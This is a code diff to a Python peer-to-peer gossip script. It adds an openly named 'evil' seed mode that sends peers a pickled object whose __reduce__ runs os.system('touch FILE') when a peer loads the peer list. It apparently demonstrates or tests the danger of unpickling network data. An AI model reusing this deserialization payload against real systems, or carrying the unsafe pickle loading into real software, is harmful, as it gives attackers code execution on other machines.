@@ -2,13 +2,16 @@
 included; only its pauses are shorter, and the threads that it leaves behind sleep instead of spinning.
 
 Usage: p2p_messaging.py seed          one seed
+       p2p_messaging.py evil FILE     one whose lists are pickles that make FILE when they are loaded
        p2p_messaging.py peer SPEED SEEDPORT...   pauses are divided by SPEED
 
 Commands on standard input: `list` says whom one knows, `dead PORT` reports a death to all seeds.
-Said: listen ADDRESS, gossip TEXT, list PORT..., dead PORT, died WHY
+Said: listen ADDRESS, frame TEXT for each number that comes, gossip TEXT for those that are news, list PORT...,
+dead PORT, died WHY
 """
 
 import hashlib
+import os
 import pickle
 import random
 import socket
@@ -51,13 +54,29 @@ class Seed:
             self.peers.append(port)
             connection.send(("%d Registered successfully to %d" % (port, self.port)).encode())
         elif text.startswith("PEERLIST_REQUEST"):
-            connection.send(pickle.dumps(self.peers))
+            connection.send(pickle.dumps(self.list()))
         elif text.startswith("DEAD"):
             port = int(text.split(":")[2])
             if port in self.peers:
                 self.peers.remove(port)
             say("dead", port)
         connection.close()
+
+
+    def list(self):
+        return self.peers
+
+
+class EvilSeed(Seed):
+    """Whoever loads its lists runs what it wants."""
+
+    def list(self):
+        return Command()
+
+
+class Command:
+    def __reduce__(self):
+        return os.system, ("touch '%s'" % sys.argv[2],)
 
 
 class Peer:
@@ -108,6 +127,7 @@ class Peer:
             return False
 
     def on_gossip(self, text, parts):
+        say("frame", text)
         origin = parts[1]
         if origin not in self.members:
             self.members.append(origin)
@@ -145,9 +165,12 @@ class Peer:
             self.try_send(seed, "DEAD:%s:%d:%d:%d" % (HOST, port, time.time(), self.port))
 
 
+SEEDS = {"seed": Seed, "evil": EvilSeed}
+
+
 def run():
-    if sys.argv[1] == "seed":
-        node = Seed()
+    if sys.argv[1] in SEEDS:
+        node = SEEDS[sys.argv[1]]()
     else:
         node = Peer(float(sys.argv[2]), [int(port) for port in sys.argv[3:]])
         node.join()
@@ -157,7 +180,7 @@ def run():
     for line in sys.stdin:
         words = line.split()
         if words[0] == "list":
-            say("list", *(node.peers if sys.argv[1] == "seed" else node.members))
+            say("list", *(node.peers if sys.argv[1] in SEEDS else node.members))
         else:
             node.report(int(words[1]))
 
